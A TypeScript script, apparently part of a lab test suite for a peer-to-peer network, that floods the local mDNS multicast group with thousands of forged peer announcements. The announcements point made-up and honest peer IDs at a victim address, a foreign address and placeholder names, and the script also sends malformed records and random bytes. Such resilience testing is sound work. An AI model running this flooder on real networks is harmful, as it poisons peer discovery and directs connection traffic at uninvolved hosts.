/**
 * Announces members that are not there, by the thousand: at a machine that is
 * none of ours, at addresses of the Internet, at names, at nothing; honest
 * members at places where they are not; and rubbish.
 */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { randomBytes } from 'node:crypto'
import { attackArgs } from '../support/attack-args.ts'
import { peerIdText } from '../support/peer-id-text.ts'
import { report } from '../support/report.ts'
import { mdnsAnswer } from '../../../support/mdns-packet.ts'

const GROUP = '224.0.0.251'
const PORT = 5_353
const PER_TICK = 20
const TICK_MS = 20

const { targets, victim, foreign } = attackArgs()
const honest = targets.map(({ peerId }) => peerId)
const socket = createSocket({ type: 'udp4', reuseAddr: true })
let sent = 0

socket.bind(PORT)
await once(socket, 'listening')
socket.setMulticastTTL(255)

setInterval(() => {
  for (let i = 0; i < PER_TICK; i++) {
    socket.send(packet(sent++), PORT, GROUP)
  }

  report({ event: 'opened', count: sent })
}, TICK_MS)

function packet(n: number): Buffer {
  const made = peerIdText()
  const known = honest[n % honest.length] ?? made
  const kinds: Array<() => Buffer> = [
    () => announce(made, [`/ip4/${String(victim)}/tcp/${9_000 + (n % 7)}/p2p/${made}`]),
    () => announce(made, [`/ip4/${String(foreign)}/tcp/4001/p2p/${made}`]),
    () => announce(made, [`/dns4/victim.example/tcp/4001/p2p/${made}`]),
    () => announce(made, [`/ip4/10.77.0.250/tcp/4001/p2p/${made}`]),
    () => announce(known, [`/ip4/${String(victim)}/tcp/9000/p2p/${known}`]),
    () =>
      announce(
        made,
        Array.from({ length: 30 }, (_, i) => `/ip4/${String(victim)}/tcp/${9_000 + i}/p2p/${made}`)
      ),
    () => mdnsAnswer('_nebula-lab._udp.local', 'rubbish', ['dnsaddr=/ip4/1/tcp', 'x', '']),
    () => randomBytes(200)
  ]

  return (kinds[n % kinds.length] ?? (() => randomBytes(200)))()
}

function announce(instance: string, addrs: string[]): Buffer {
  return mdnsAnswer(
    '_nebula-lab._udp.local',
    instance.slice(-30),
    addrs.map((addr) => `dnsaddr=${addr}`)
  )
}
